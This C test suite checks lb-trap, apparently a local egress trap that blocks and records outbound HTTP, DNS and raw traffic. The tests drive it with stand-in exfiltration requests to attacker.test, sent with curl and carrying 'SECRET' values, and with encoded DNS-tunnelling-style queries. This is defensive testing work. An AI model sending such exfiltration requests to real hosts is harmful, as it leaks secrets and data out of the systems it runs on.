/*
 * Tests of the real lb-trap binary (BUILD/lb-trap, next to this test's
 * unit/ directory): started on 127.0.0.1 with port 0 for both listeners,
 * waited for by its ready line, then driven by the real curl (through
 * --proxy, trusting the trap's ca.pem) and by raw DNS queries over UDP and
 * TCP; egress.jsonl is compared whole ("t" replaced by T). Then its
 * start-up errors, each pinned with its exit status. Only fake names
 * (*.test) and 127.0.0.1 are used: nothing leaves the machine, and curl
 * never resolves a name through a proxy.
 */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <linux/capability.h>
#include <net/if.h>

#include "tap.h"

static char tmpdir[256], trap_bin[PATH_MAX + 16];
static const char *clean_env[8] = { "PATH=/usr/bin:/bin" };

static long long
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/*
 * Spawns argv with stdout and stderr on pipes. The pid, or -1; *out_fd
 * and *err_fd are the read ends.
 */
static pid_t
spawn(const char *const argv[], int *out_fd, int *err_fd)
{
	posix_spawn_file_actions_t fa;
	int o[2], e[2];
	pid_t pid;

	if (pipe2(o, O_CLOEXEC) < 0 || pipe2(e, O_CLOEXEC) < 0)
		return -1;
	posix_spawn_file_actions_init(&fa);
	posix_spawn_file_actions_adddup2(&fa, o[1], 1);
	posix_spawn_file_actions_adddup2(&fa, e[1], 2);
	posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
	if (posix_spawn(&pid, argv[0], &fa, NULL, (char *const *)argv,
		(char *const *)clean_env) != 0)
		pid = -1;
	posix_spawn_file_actions_destroy(&fa);
	close(o[1]);
	close(e[1]);
	*out_fd = o[0];
	*err_fd = e[0];
	return pid;
}

/*
 * Spawns argv as spawn() does, with FDS[0..N-1] as its fds 3, 4, ...
 * (copied high first, so that no source is overwritten by another's
 * target). The pid, or -1.
 */
static pid_t
spawn_fds(const char *const argv[], const int *fds, int n, int *out_fd,
    int *err_fd)
{
	posix_spawn_file_actions_t fa;
	int o[2], e[2], high[8], i;
	pid_t pid;

	if (pipe2(o, O_CLOEXEC) < 0 || pipe2(e, O_CLOEXEC) < 0)
		return -1;
	posix_spawn_file_actions_init(&fa);
	posix_spawn_file_actions_adddup2(&fa, o[1], 1);
	posix_spawn_file_actions_adddup2(&fa, e[1], 2);
	posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
	for (i = 0; i < n; i++) {
		high[i] = fcntl(fds[i], F_DUPFD_CLOEXEC, 100);
		posix_spawn_file_actions_adddup2(&fa, high[i], 3 + i);
	}
	if (posix_spawn(&pid, argv[0], &fa, NULL, (char *const *)argv,
		(char *const *)clean_env) != 0)
		pid = -1;
	posix_spawn_file_actions_destroy(&fa);
	for (i = 0; i < n; i++)
		close(high[i]);
	close(o[1]);
	close(e[1]);
	*out_fd = o[0];
	*err_fd = e[0];
	return pid;
}

/* Reads one line from fd (10 s at most). malloc'd. */
static char *
read_line(int fd)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char line[512];
	size_t n = 0;
	long long deadline = now_ms() + 10000;

	while (n < sizeof(line) - 1 && (n == 0 || line[n - 1] != '\n') &&
	    now_ms() < deadline) {
		if (poll(&p, 1, 1000) <= 0)
			continue;
		if (read(fd, line + n, 1) <= 0)
			break;
		n++;
	}
	line[n] = '\0';
	return strdup(line);
}

/* Reads fd until end of stream or the deadline. malloc'd. */
static char *
drain(int fd, long long deadline)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char *buf = calloc(1, 65536);
	size_t n = 0;
	ssize_t r;
	long long left;

	while (n < 65535 && (left = deadline - now_ms()) > 0 &&
	    poll(&p, 1, (int)left) > 0) {
		r = read(fd, buf + n, 65535 - n);
		if (r <= 0)
			break;
		n += (size_t)r;
	}
	return buf;
}

/* Runs argv to completion (10 s at most). Exit status, or -1. */
static int
run(const char *const argv[], char **out, char **err)
{
	int ofd, efd, st;
	pid_t pid = spawn(argv, &ofd, &efd);
	long long deadline = now_ms() + 10000;

	if (pid < 0)
		return -1;
	*out = drain(ofd, deadline);
	*err = drain(efd, deadline);
	close(ofd);
	close(efd);
	if (waitpid(pid, &st, 0) < 0 || !WIFEXITED(st))
		return -1;
	return WEXITSTATUS(st);
}

/* A file's content with "t" values replaced by T. malloc'd. */
static char *
records(const char *path)
{
	FILE *f = fopen(path, "r");
	char *buf, *o, *p;
	size_t n;

	if (f == NULL)
		return strdup("(missing)");
	buf = calloc(1, 1 << 20);
	n = fread(buf, 1, (1 << 20) - 1, f);
	fclose(f);
	buf[n] = '\0';
	for (p = o = buf; *p;) {
		if (strncmp(p, "{\"t\":", 5) == 0) {
			p += 5;
			while ((*p >= '0' && *p <= '9') || *p == '.')
				p++;
			memcpy(o, "{\"t\":T", 6);
			o += 6;
			continue;
		}
		*o++ = *p++;
	}
	*o = '\0';
	return buf;
}

/* Waits, at most 10 s, until the records in PATH hold NEEDLE. */
static int
await_record(const char *path, const char *needle)
{
	long long end = now_ms() + 10000;
	char *got;
	int found;

	do {
		got = records(path);
		found = got != NULL && strstr(got, needle) != NULL;
		free(got);
		if (found)
			return 1;
		poll(NULL, 0, 10);
	} while (now_ms() < end);
	return 0;
}

/* A DNS query for name (dotted), type. Its length. */
static size_t
dns_query(unsigned char *b, const char *name, unsigned type)
{
	static const unsigned char hdr[12] = { 0xab, 0xcd, 0x01, 0x00, 0, 1 };
	size_t n = 12;
	const char *p = name, *d;

	memcpy(b, hdr, 12);
	while (*p) {
		d = strchr(p, '.');
		if (d == NULL)
			d = p + strlen(p);
		b[n++] = (unsigned char)(d - p);
		memcpy(b + n, p, (size_t)(d - p));
		n += (size_t)(d - p);
		p = *d ? d + 1 : d;
	}
	b[n++] = 0;
	b[n++] = (unsigned char)(type >> 8);
	b[n++] = (unsigned char)type;
	b[n++] = 0;
	b[n++] = 1;
	return n;
}

static struct sockaddr_in
loopback(int port)
{
	struct sockaddr_in sa;

	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return sa;
}

static void
test_dns(int port)
{
	struct sockaddr_in sa = loopback(port);
	struct pollfd p;
	unsigned char q[512], a[1024];
	size_t n;
	ssize_t r;
	int fd;

	fd = socket(AF_INET, SOCK_DGRAM, 0);
	n = dns_query(q, "ONSWG4TFOQ.attacker.test", 16);
	sendto(fd, q, n, 0, (struct sockaddr *)&sa, sizeof(sa));
	p = (struct pollfd){ .fd = fd, .events = POLLIN };
	poll(&p, 1, 5000);
	r = recv(fd, a, sizeof(a), MSG_DONTWAIT);
	ok(r == (ssize_t)n && a[0] == 0xab && (a[3] & 0x0f) == 3,
	    "binary: udp NXDOMAIN");
	close(fd);

	fd = socket(AF_INET, SOCK_STREAM, 0);
	ok(connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0,
	    "binary: dns over tcp connects");
	n = dns_query(q + 2, "6f6f.attacker.test", 28);
	q[0] = 0;
	q[1] = (unsigned char)n;
	write(fd, q, n + 2);
	p = (struct pollfd){ .fd = fd, .events = POLLIN };
	poll(&p, 1, 5000);
	r = read(fd, a, sizeof(a));
	ok(r == (ssize_t)n + 2 && (a[5] & 0x0f) == 3, "binary: tcp NXDOMAIN");
	close(fd);
}

static int
curl(const char *proxy, const char *ca, const char *url, const char *data,
    char **code)
{
	const char *argv[24];
	char *err;
	int i = 0, rc;

	argv[i++] = "/usr/bin/curl";
	argv[i++] = "-q";
	argv[i++] = "-s";
	argv[i++] = "-o";
	argv[i++] = "/dev/null";
	argv[i++] = "-w";
	argv[i++] = "%{http_code}";
	argv[i++] = "-A";
	argv[i++] = "lb-test";
	argv[i++] = "--proxy-header";
	argv[i++] = "Proxy-Connection:";
	argv[i++] = "-H";
	argv[i++] = "Proxy-Connection:";
	argv[i++] = "--proxy";
	argv[i++] = proxy;
	if (ca != NULL) {
		argv[i++] = "--cacert";
		argv[i++] = ca;
	}
	if (data != NULL) {
		argv[i++] = "--data-binary";
		argv[i++] = data;
	}
	argv[i++] = url;
	argv[i] = NULL;
	rc = run(argv, code, &err);
	free(err);
	return rc;
}

static void
test_running(void)
{
	char recdir[400], cadir[400], sys[400], path[500], proxy[64];
	const char *argv[20];
	char *ready, *got, *code, *err = NULL;
	int ofd, efd, dport = 0, hport = 0, st, rc;
	pid_t pid;
	FILE *f;

	snprintf(recdir, sizeof(recdir), "%s/rec", tmpdir);
	snprintf(cadir, sizeof(cadir), "%s/ca", tmpdir);
	snprintf(sys, sizeof(sys), "%s/sys.pem", tmpdir);
	f = fopen(sys, "w");
	fputs("# system\n", f);
	fclose(f);
	argv[0] = trap_bin;
	argv[1] = "--dns";
	argv[2] = "127.0.0.1:0";
	argv[3] = "--http";
	argv[4] = "127.0.0.1:0";
	argv[5] = "--records";
	argv[6] = recdir;
	argv[7] = "--ca-out";
	argv[8] = cadir;
	argv[9] = "--system-bundle";
	argv[10] = sys;
	argv[11] = "--idle-timeout";
	argv[12] = "3";
	argv[13] = NULL;
	pid = spawn(argv, &ofd, &efd);
	ok(pid > 0, "binary: started");
	{
		/* The ready line: read it alone, the process stays. */
		struct pollfd p = { .fd = ofd, .events = POLLIN };
		char line[256];
		size_t n = 0;
		long long deadline = now_ms() + 20000, left;
		ssize_t r;

		while (n < sizeof(line) - 1 && memchr(line, '\n', n) == NULL &&
		    (left = deadline - now_ms()) > 0 &&
		    poll(&p, 1, (int)left) > 0 &&
		    (r = read(ofd, line + n, sizeof(line) - 1 - n)) > 0)
			n += (size_t)r;
		line[n] = '\0';
		ready = strdup(line);
	}
	ok(sscanf(ready,
	       "lb-trap: listening dns 127.0.0.1:%d http "
	       "127.0.0.1:%d\n",
	       &dport, &hport) == 2 &&
		dport > 0 && hport > 0,
	    "binary: ready line with the bound ports");
	{
		char want[128];

		snprintf(want, sizeof(want),
		    "lb-trap: listening dns "
		    "127.0.0.1:%d http 127.0.0.1:%d\n",
		    dport, hport);
		is_str(ready, want, "binary: ready line exact");
	}
	free(ready);
	snprintf(path, sizeof(path), "%s/ca.pem", cadir);
	ok(access(path, R_OK) == 0, "binary: ca.pem there when ready");

	snprintf(proxy, sizeof(proxy), "http://127.0.0.1:%d", hport);
	rc = curl(proxy, NULL, "http://attacker.test/leak?k=SECRET", NULL,
	    &code);
	is_int(rc, 0, "curl http: exits 0");
	is_str(code, "403", "curl http: 403");
	free(code);
	rc = curl(proxy, path, "https://attacker.test/tls?k=SECRET", "SECRET=1",
	    &code);
	is_int(rc, 0, "curl https: verified, exits 0");
	is_str(code, "403", "curl https: 403");
	free(code);
	rc = curl(proxy, NULL, "https://attacker.test/untrusted", NULL, &code);
	is_int(rc, 60, "curl https without the CA: exit 60");
	free(code);
	/* curl has gone before the trap's thread for that connection writes
	 * its TLS error: the records below are in the order things happened
	 * only once it has (records of two connections have no order). */
	snprintf(path, sizeof(path), "%s/egress.jsonl", recdir);
	ok(await_record(path, "\"kind\":\"tls\""),
	    "binary: the failed handshake is recorded");

	test_dns(dport);

	kill(pid, SIGTERM);
	got = drain(efd, now_ms() + 10000);
	is_str(got, "", "binary: nothing on stderr");
	free(got);
	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 0,
	    "binary: SIGTERM ends it with 0");
	close(ofd);
	close(efd);

	snprintf(path, sizeof(path), "%s/egress.jsonl", recdir);
	got = records(path);
	is_str(got,
	    "{\"t\":T,\"kind\":\"http\",\"method\":\"GET\",\"target\":"
	    "\"http://attacker.test/leak?k=SECRET\",\"version\":\"HTTP/1.1\","
	    "\"headers\":[[\"Host\",\"attacker.test\"],[\"User-Agent\","
	    "\"lb-test\"],[\"Accept\",\"*/*\"]],\"head\":\"GET "
	    "http://attacker.test/leak?k=SECRET HTTP/1.1\\r\\nHost: "
	    "attacker.test\\r\\nUser-Agent: lb-test\\r\\nAccept: */*\\r\\n"
	    "\\r\\n\",\"body\":\"\",\"body_bytes\":0,\"truncated\":false,"
	    "\"tls\":false}\n"
	    "{\"t\":T,\"kind\":\"connect\",\"target\":\"attacker.test:443\","
	    "\"head\":\"CONNECT attacker.test:443 HTTP/1.1\\r\\nHost: "
	    "attacker.test:443\\r\\nUser-Agent: lb-test\\r\\n\\r\\n\"}\n"
	    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\",\"target\":"
	    "\"/tls?k=SECRET\",\"version\":\"HTTP/1.1\",\"headers\":[[\"Host\","
	    "\"attacker.test\"],[\"User-Agent\",\"lb-test\"],[\"Accept\","
	    "\"*/*\"],[\"Content-Length\",\"8\"],[\"Content-Type\","
	    "\"application/x-www-form-urlencoded\"]],\"head\":\"POST "
	    "/tls?k=SECRET HTTP/1.1\\r\\nHost: attacker.test\\r\\nUser-Agent: "
	    "lb-test\\r\\nAccept: */*\\r\\nContent-Length: 8\\r\\n"
	    "Content-Type: application/x-www-form-urlencoded\\r\\n\\r\\n\","
	    "\"body\":\"SECRET=1\",\"body_bytes\":8,\"truncated\":false,"
	    "\"tls\":true,\"sni\":\"attacker.test\",\"connect\":"
	    "\"attacker.test:443\"}\n"
	    "{\"t\":T,\"kind\":\"connect\",\"target\":\"attacker.test:443\","
	    "\"head\":\"CONNECT attacker.test:443 HTTP/1.1\\r\\nHost: "
	    "attacker.test:443\\r\\nUser-Agent: lb-test\\r\\n\\r\\n\"}\n"
	    "{\"t\":T,\"kind\":\"tls\",\"connect\":\"attacker.test:443\","
	    "\"sni\":\"attacker.test\",\"error\":\"error:0A000418:SSL "
	    "routines::tlsv1 alert unknown ca\"}\n"
	    "{\"t\":T,\"kind\":\"dns\",\"proto\":\"udp\",\"name\":"
	    "\"ONSWG4TFOQ.attacker.test\",\"type\":\"TXT\",\"class\":\"IN\"}\n"
	    "{\"t\":T,\"kind\":\"dns\",\"proto\":\"tcp\",\"name\":"
	    "\"6f6f.attacker.test\",\"type\":\"AAAA\",\"class\":\"IN\"}\n",
	    "binary: egress.jsonl exact");
	free(got);
	{
		struct stat sb;

		stat(path, &sb);
		is_int(sb.st_mode & 0777, 0644, "binary: records mode 0644");
	}
	snprintf(path, sizeof(path), "%s/bundle.pem", cadir);
	got = records(path);
	ok(strncmp(got, "# system\n-----BEGIN CERTIFICATE-----\n", 37) == 0,
	    "binary: bundle.pem is the system bundle then the CA");
	free(got);
	(void)err;
}

static void
test_errors(void)
{
	struct sockaddr_in sa = loopback(0);
	socklen_t sl = sizeof(sa);
	char recdir[400], cadir[400], addr[64], want[600], file[400];
	const char *argv[12];
	char *out, *err;
	int lfd, rc;

	snprintf(recdir, sizeof(recdir), "%s/rec2", tmpdir);
	snprintf(cadir, sizeof(cadir), "%s/ca2", tmpdir);

	argv[0] = trap_bin;
	argv[1] = "--records";
	argv[2] = recdir;
	argv[3] = NULL;
	rc = run(argv, &out, &err);
	is_int(rc, 2, "usage: exit 2");
	is_str(err,
	    "lb-trap: option '--ca-out' is required (try 'lb-trap --help')\n",
	    "usage: message");
	free(out);
	free(err);

	/* A proxy port already taken. */
	lfd = socket(AF_INET, SOCK_STREAM, 0);
	bind(lfd, (struct sockaddr *)&sa, sizeof(sa));
	listen(lfd, 1);
	getsockname(lfd, (struct sockaddr *)&sa, &sl);
	snprintf(addr, sizeof(addr), "127.0.0.1:%d", ntohs(sa.sin_port));
	argv[0] = trap_bin;
	argv[1] = "--dns";
	argv[2] = "127.0.0.1:0";
	argv[3] = "--http";
	argv[4] = addr;
	argv[5] = "--records";
	argv[6] = recdir;
	argv[7] = "--ca-out";
	argv[8] = cadir;
	argv[9] = NULL;
	rc = run(argv, &out, &err);
	is_int(rc, 1, "port taken: exit 1");
	is_str(out, "", "port taken: no ready line");
	snprintf(want, sizeof(want),
	    "lb-trap: cannot bind '%s': address "
	    "already in use\n",
	    addr);
	is_str(err, want, "port taken: message");
	free(out);
	free(err);
	close(lfd);

	argv[2] = "10.255.255.1:0";
	argv[4] = "127.0.0.1:0";
	rc = run(argv, &out, &err);
	is_int(rc, 1, "address not ours: exit 1");
	is_str(err,
	    "lb-trap: cannot bind '10.255.255.1:0': cannot assign "
	    "requested address\n",
	    "address not ours: message");
	free(out);
	free(err);

	snprintf(file, sizeof(file), "%s/plainfile", tmpdir);
	fclose(fopen(file, "w"));
	snprintf(recdir, sizeof(recdir), "%s/plainfile/rec", tmpdir);
	argv[2] = "127.0.0.1:0";
	argv[6] = recdir;
	rc = run(argv, &out, &err);
	is_int(rc, 1, "records under a file: exit 1");
	snprintf(want, sizeof(want),
	    "lb-trap: cannot create records "
	    "directory '%s': not a directory\n",
	    recdir);
	is_str(err, want, "records under a file: message");
	free(out);
	free(err);
}

/*
 * The simulated internet's sockets, as lb-net hands them over (fds 3 and
 * 4): here plain loopback sockets, so the address a client meant is
 * 127.0.0.1 and has no name; DNS answers each name in 198.18.0.0/15.
 */
static void
test_sim(void)
{
	struct sockaddr_in sa = loopback(0), ta, ua, da;
	socklen_t sl = sizeof(ta);
	char recdir[400], cadir[400], path[500], want[1200], line[512];
	char *got, *err, *dp;
	const char *argv[16];
	unsigned char q[512], a[1024];
	int tfd, ufd, o[2], e[2], on = 1, c, st, i;
	long long deadline;
	size_t n = 0;
	ssize_t r;
	pid_t pid;

	snprintf(recdir, sizeof(recdir), "%s/simrec", tmpdir);
	snprintf(cadir, sizeof(cadir), "%s/simca", tmpdir);
	tfd = socket(AF_INET, SOCK_STREAM, 0);
	ufd = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(ufd, SOL_IP, IP_RECVORIGDSTADDR, &on, sizeof(on));
	bind(tfd, (struct sockaddr *)&sa, sizeof(sa));
	listen(tfd, 8);
	bind(ufd, (struct sockaddr *)&sa, sizeof(sa));
	getsockname(tfd, (struct sockaddr *)&ta, &sl);
	sl = sizeof(ua);
	getsockname(ufd, (struct sockaddr *)&ua, &sl);

	argv[0] = trap_bin;
	argv[1] = "--dns";
	argv[2] = "127.0.0.1:0";
	argv[3] = "--http";
	argv[4] = "127.0.0.1:0";
	argv[5] = "--records";
	argv[6] = recdir;
	argv[7] = "--ca-out";
	argv[8] = cadir;
	argv[9] = "--sim-tcp-fd";
	argv[10] = "3";
	argv[11] = "--sim-udp-fd";
	argv[12] = "4";
	argv[13] = NULL;
	if (pipe2(o, O_CLOEXEC) < 0 || pipe2(e, O_CLOEXEC) < 0)
		return;
	/*
	 * As lb-net leaves it: no capability, no way to gain one (the trap
	 * refuses to serve the simulated internet otherwise; root here).
	 */
	pid = fork();
	if (pid == 0) {
		struct __user_cap_header_struct h = {
			_LINUX_CAPABILITY_VERSION_3, 0
		};
		struct __user_cap_data_struct d[2];

		memset(d, 0, sizeof(d));
		if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
		    syscall(SYS_capset, &h, d) < 0 || dup2(o[1], 1) < 0 ||
		    dup2(e[1], 2) < 0 || dup2(tfd, 3) < 0 || dup2(ufd, 4) < 0)
			_exit(126);
		execve(trap_bin, (char *const *)argv, (char *const *)clean_env);
		_exit(127);
	}
	close(o[1]);
	close(e[1]);
	ok(pid > 0, "sim: started");
	if (pid <= 0)
		return;
	deadline = now_ms() + 10000;
	while (n < sizeof(line) - 1 && now_ms() < deadline &&
	    (n == 0 || line[n - 1] != '\n')) {
		struct pollfd p = { .fd = o[0], .events = POLLIN };

		if (poll(&p, 1, 1000) <= 0)
			continue;
		r = read(o[0], line + n, 1);
		if (r <= 0)
			break;
		n += (size_t)r;
	}
	line[n] = '\0';
	ok(strstr(line, " sim 198.18.0.0/15\n") != NULL,
	    "sim: the ready line says so");
	dp = strstr(line, "dns 127.0.0.1:");
	da = loopback(dp ? atoi(dp + 14) : 0);

	/* A name, asked twice in two cases: one address. */
	for (i = 0; i < 2; i++) {
		c = socket(AF_INET, SOCK_DGRAM, 0);
		n = dns_query(q, i == 0 ? "Web.Sim.test" : "web.sim.TEST", 1);
		sendto(c, q, n, 0, (struct sockaddr *)&da, sizeof(da));
		{
			struct pollfd p = { .fd = c, .events = POLLIN };

			poll(&p, 1, 5000);
		}
		r = recv(c, a, sizeof(a), MSG_DONTWAIT);
		ok(r == (ssize_t)n + 16 && (a[3] & 0x0f) == 0 && a[7] == 1 &&
			memcmp(a + n + 12, "\xc6\x12\0\1", 4) == 0,
		    "sim: A answer 198.18.0.1");
		close(c);
	}

	/* Raw TCP: recorded when the client has finished. */
	c = socket(AF_INET, SOCK_STREAM, 0);
	ok(connect(c, (struct sockaddr *)&ta, sizeof(ta)) == 0,
	    "sim: tcp connects");
	send(c, "raw bytes\n", 10, 0);
	shutdown(c, SHUT_WR);
	{
		struct pollfd p = { .fd = c, .events = POLLIN };

		poll(&p, 1, 5000);
	}
	ok(recv(c, a, sizeof(a), 0) == 0, "sim: the trap closes after it");
	close(c);
	/* Each in the order it happened: the next once this one is recorded
	 * (records of two connections have no order of their own). */
	snprintf(path, sizeof(path), "%s/egress.jsonl", recdir);
	ok(await_record(path, "\"kind\":\"tcp\""), "sim: tcp recorded");

	c = socket(AF_INET, SOCK_DGRAM, 0);
	sendto(c, "dgram", 5, 0, (struct sockaddr *)&ua, sizeof(ua));
	close(c);
	ok(await_record(path, "\"kind\":\"udp\""), "sim: udp recorded");
	kill(pid, SIGTERM);
	waitpid(pid, &st, 0);
	got = records(path);
	snprintf(want, sizeof(want),
	    "{\"t\":T,\"kind\":\"dns\",\"proto\":\"udp\",\"name\":"
	    "\"Web.Sim.test\",\"type\":\"A\",\"class\":\"IN\",\"answer\":"
	    "\"198.18.0.1\"}\n"
	    "{\"t\":T,\"kind\":\"dns\",\"proto\":\"udp\",\"name\":"
	    "\"web.sim.TEST\",\"type\":\"A\",\"class\":\"IN\",\"answer\":"
	    "\"198.18.0.1\"}\n"
	    "{\"t\":T,\"kind\":\"tcp\",\"name\":null,\"addr\":\"127.0.0.1\","
	    "\"port\":%d,\"tls\":false,\"proto\":\"raw\",\"data\":\"raw "
	    "bytes\\n\",\"data_bytes\":10,\"truncated\":false}\n"
	    "{\"t\":T,\"kind\":\"udp\",\"name\":null,\"addr\":\"127.0.0.1\","
	    "\"port\":%d,\"data\":\"dgram\",\"data_bytes\":5,\"truncated\":"
	    "false}\n",
	    ntohs(ta.sin_port), ntohs(ua.sin_port));
	is_str(got, want, "sim: egress.jsonl exact");
	free(got);
	err = drain(e[0], now_ms() + 100);
	is_str(err, "", "sim: nothing on stderr");
	free(err);
	close(o[0]);
	close(e[0]);
	close(tfd);
	close(ufd);

	/* With capabilities (root, as the tests run in CI), it refuses. */
	if (geteuid() == 0) {
		char *out;
		int rc;
		int t2 = socket(AF_INET, SOCK_STREAM, 0);
		int u2 = socket(AF_INET, SOCK_DGRAM, 0);
		char fd3[16], fd4[16];

		snprintf(fd3, sizeof(fd3), "%d", t2);
		snprintf(fd4, sizeof(fd4), "%d", u2);
		argv[10] = fd3;
		argv[12] = fd4;
		/* run() keeps t2 and u2 open across exec: not close-on-exec. */
		rc = run(argv, &out, &err);
		is_int(rc, 1, "sim: with capabilities, exit 1");
		is_str(err,
		    "lb-trap: refusing to serve the simulated internet with "
		    "capabilities: they belong to its setup only\n",
		    "sim: with capabilities, message");
		free(out);
		free(err);
		close(t2);
		close(u2);
		argv[12] = "4";
	} else {
		ok(1, "sim: with capabilities (not root: skipped)");
		ok(1, "sim: with capabilities (not root: skipped)");
	}

	/* Each fd must be an open socket of its kind. */
	{
		char *out;
		int rc;

		argv[10] = "97";
		rc = run(argv, &out, &err);
		is_int(rc, 2, "sim: a closed fd, exit 2");
		is_str(err,
		    "lb-trap: cannot use --sim-tcp-fd '97': expected an open "
		    "TCP socket's fd (try 'lb-trap --help')\n",
		    "sim: a closed fd, message");
		free(out);
		free(err);
	}
}

/*
 * A UDP socket and a TCP one (bound, not yet listening) on one loopback
 * port, as the harness binds DNS's for the trap; *port is that port.
 */
static void
dns_pair(int *ufd, int *tfd, int *port)
{
	struct sockaddr_in sa;
	socklen_t sl;
	int i;

	for (i = 0; i < 20; i++) {
		sa = loopback(0);
		sl = sizeof(sa);
		*ufd = socket(AF_INET, SOCK_DGRAM, 0);
		bind(*ufd, (struct sockaddr *)&sa, sizeof(sa));
		getsockname(*ufd, (struct sockaddr *)&sa, &sl);
		*tfd = socket(AF_INET, SOCK_STREAM, 0);
		if (bind(*tfd, (struct sockaddr *)&sa, sizeof(sa)) == 0)
			break;
		close(*ufd);
		close(*tfd);
	}
	*port = ntohs(sa.sin_port);
}

/*
 * DNS and HTTP served on sockets the test bound and hands down as fds 3
 * (DNS, UDP), 4 (DNS, TCP, not yet listening) and 5 (HTTP, listening):
 * the ready line names their addresses, both are served and recorded.
 * Then the errors of those options.
 */
static void
test_inherited(void)
{
	struct sockaddr_in sa = loopback(0);
	socklen_t sl = sizeof(sa);
	char recdir[400], cadir[400], path[500], want[300], proxy[64];
	const char *argv[16];
	char *line, *got, *code, *out, *err;
	int fds[3], dport, hport, ofd, efd, st, rc;
	pid_t pid;

	snprintf(recdir, sizeof(recdir), "%s/fdrec", tmpdir);
	snprintf(cadir, sizeof(cadir), "%s/fdca", tmpdir);
	dns_pair(&fds[0], &fds[1], &dport);
	fds[2] = socket(AF_INET, SOCK_STREAM, 0);
	bind(fds[2], (struct sockaddr *)&sa, sizeof(sa));
	listen(fds[2], 8);
	getsockname(fds[2], (struct sockaddr *)&sa, &sl);
	hport = ntohs(sa.sin_port);

	argv[0] = trap_bin;
	argv[1] = "--records";
	argv[2] = recdir;
	argv[3] = "--ca-out";
	argv[4] = cadir;
	argv[5] = "--dns-udp-fd";
	argv[6] = "3";
	argv[7] = "--dns-tcp-fd";
	argv[8] = "4";
	argv[9] = "--http-fd";
	argv[10] = "5";
	argv[11] = NULL;
	pid = spawn_fds(argv, fds, 3, &ofd, &efd);
	ok(pid > 0, "fds: started");
	if (pid <= 0)
		return;
	line = read_line(ofd);
	snprintf(want, sizeof(want),
	    "lb-trap: listening dns 127.0.0.1:%d http 127.0.0.1:%d\n", dport,
	    hport);
	is_str(line, want, "fds: the ready line names the inherited sockets");
	free(line);
	close(fds[0]);
	close(fds[1]);
	close(fds[2]);

	test_dns(dport);
	snprintf(proxy, sizeof(proxy), "http://127.0.0.1:%d", hport);
	rc = curl(proxy, NULL, "http://attacker.test/fd?k=SECRET", NULL, &code);
	is_int(rc, 0, "fds: curl through --http-fd exits 0");
	is_str(code, "403", "fds: 403");
	free(code);
	snprintf(path, sizeof(path), "%s/egress.jsonl", recdir);
	ok(await_record(path, "\"http://attacker.test/fd?k=SECRET\""),
	    "fds: the http request is recorded");
	kill(pid, SIGTERM);
	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 0,
	    "fds: SIGTERM ends it with 0");
	got = drain(efd, now_ms() + 1000);
	is_str(got, "", "fds: nothing on stderr");
	free(got);
	close(ofd);
	close(efd);
	got = records(path);
	ok(strstr(got,
	       "\"proto\":\"udp\",\"name\":"
	       "\"ONSWG4TFOQ.attacker.test\"") != NULL &&
		strstr(got,
		    "\"proto\":\"tcp\",\"name\":"
		    "\"6f6f.attacker.test\"") != NULL,
	    "fds: both DNS queries are recorded");
	free(got);

	/* Errors: each flag named. */
	dns_pair(&fds[0], &fds[1], &dport);
	fds[2] = socket(AF_INET, SOCK_DGRAM, 0);
	argv[10] = "5";
	pid = spawn_fds(argv, fds, 3, &ofd, &efd);
	out = drain(ofd, now_ms() + 10000);
	err = drain(efd, now_ms() + 10000);
	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 2,
	    "fds: a UDP --http-fd, exit 2");
	is_str(err,
	    "lb-trap: cannot use --http-fd '5': expected an open TCP socket's "
	    "fd (try 'lb-trap --help')\n",
	    "fds: a UDP --http-fd, message");
	free(out);
	free(err);
	close(ofd);
	close(efd);
	argv[6] = "4";
	argv[8] = "3";
	pid = spawn_fds(argv, fds, 3, &ofd, &efd);
	out = drain(ofd, now_ms() + 10000);
	err = drain(efd, now_ms() + 10000);
	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 2,
	    "fds: TCP for --dns-udp-fd, exit 2");
	is_str(err,
	    "lb-trap: cannot use --dns-udp-fd '4': expected an open UDP "
	    "socket's fd (try 'lb-trap --help')\n",
	    "fds: TCP for --dns-udp-fd, message");
	free(out);
	free(err);
	close(ofd);
	close(efd);
	close(fds[0]);
	close(fds[1]);
	close(fds[2]);
	argv[6] = "97";
	argv[7] = NULL;
	rc = run(argv, &out, &err);
	is_int(rc, 2, "fds: a closed --dns-udp-fd, exit 2");
	is_str(err,
	    "lb-trap: cannot use --dns-udp-fd '97': expected an open UDP "
	    "socket's fd (try 'lb-trap --help')\n",
	    "fds: a closed --dns-udp-fd, message");
	free(out);
	free(err);
	fds[0] = socket(AF_INET, SOCK_DGRAM, 0);
	argv[6] = "3";
	pid = spawn_fds(argv, fds, 1, &ofd, &efd);
	out = drain(ofd, now_ms() + 10000);
	err = drain(efd, now_ms() + 10000);
	ok(waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 2,
	    "fds: --dns-udp-fd alone, exit 2");
	is_str(err,
	    "lb-trap: options '--dns-udp-fd' and '--dns-tcp-fd' go together "
	    "(try 'lb-trap --help')\n",
	    "fds: --dns-udp-fd alone, message");
	free(out);
	free(err);
	close(ofd);
	close(efd);
	close(fds[0]);
}
